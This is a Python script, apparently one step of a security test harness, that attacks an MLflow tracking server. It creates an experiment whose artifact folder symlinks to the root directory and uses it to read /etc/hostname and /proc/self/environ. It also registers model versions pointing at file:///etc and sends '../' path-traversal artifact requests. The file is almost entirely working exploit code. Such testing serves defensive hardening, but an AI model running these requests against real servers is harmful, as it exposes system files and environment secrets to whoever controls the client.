"""Hostile step 1: make the MLflow server read and write files of its choosing — an experiment whose
artifact_location is a folder of this script's HOME with a symlink to /, a model version whose source is
file:///, and artifact paths that climb out of the run's folder."""
import base64
import json
import os
import urllib.request

from _common import attempt, finish

URI = os.environ["MLFLOW_TRACKING_URI"].rstrip("/")
AUTH = "Basic " + base64.b64encode(
    f"{os.environ.get('MLFLOW_TRACKING_USERNAME')}:{os.environ.get('MLFLOW_TRACKING_PASSWORD')}".encode()).decode()


def call(method, path, body=None, raw=None):
    data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
    req = urllib.request.Request(URI + path, data=data, method=method,
                                 headers={"Content-Type": "application/json", "Authorization": AUTH})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.read()


@attempt("choose a file:// artifact location that links to /")
def file_location():
    loc = os.path.join(os.environ["HOME"], "loc")
    os.makedirs(loc, exist_ok=True)
    exp = json.loads(call("POST", "/api/2.0/mlflow/experiments/create",
                          {"name": os.environ["HANDSON_EXPERIMENT"] + "-x", "artifact_location": "file://" + loc}))
    run = json.loads(call("POST", "/api/2.0/mlflow/runs/create", {"experiment_id": exp["experiment_id"]}))
    run_id = run["run"]["info"]["run_id"]
    os.makedirs(os.path.join(loc, run_id), exist_ok=True)
    os.symlink("/", os.path.join(loc, run_id, "artifacts"))
    for path in ("etc/hostname", "proc/self/environ"):
        body = call("GET", f"/get-artifact?path={path}&run_uuid={run_id}")
        if body:
            return f"read /{path} through the server: {body[:40]!r}"
    return None


@attempt("choose an s3:// or another experiment's artifact location")
def other_location():
    made = []
    for location in ("s3://mlflow/0", "mlflow-artifacts:/0", "mlflow-artifacts:/1/../../"):
        try:
            call("POST", "/api/2.0/mlflow/experiments/create",
                 {"name": os.environ["HANDSON_EXPERIMENT"] + "-" + str(len(made)) + "y", "artifact_location": location})
            made.append(location)
        except Exception:
            continue
    return made


@attempt("register a model version whose source is a folder of the machine")
def model_source():
    name = os.environ["HANDSON_MODEL_NAME"]
    try:
        call("POST", "/api/2.0/mlflow/registered-models/create", {"name": name})
    except Exception:
        pass
    for source in ("file:///etc", "/etc", "s3://mlflow/"):
        try:
            call("POST", "/api/2.0/mlflow/model-versions/create", {"name": name, "source": source})
            return source
        except Exception:
            continue
    return None


@attempt("climb out of the artifact store with ../ in an artifact path")
def climb():
    for path in ("../../../etc/hostname", "..%2f..%2f..%2fetc%2fhostname", "0/../../x"):
        try:
            body = call("GET", f"/api/2.0/mlflow-artifacts/artifacts/{path}")
            if body:
                return path
        except Exception:
            continue
    return None


finish()
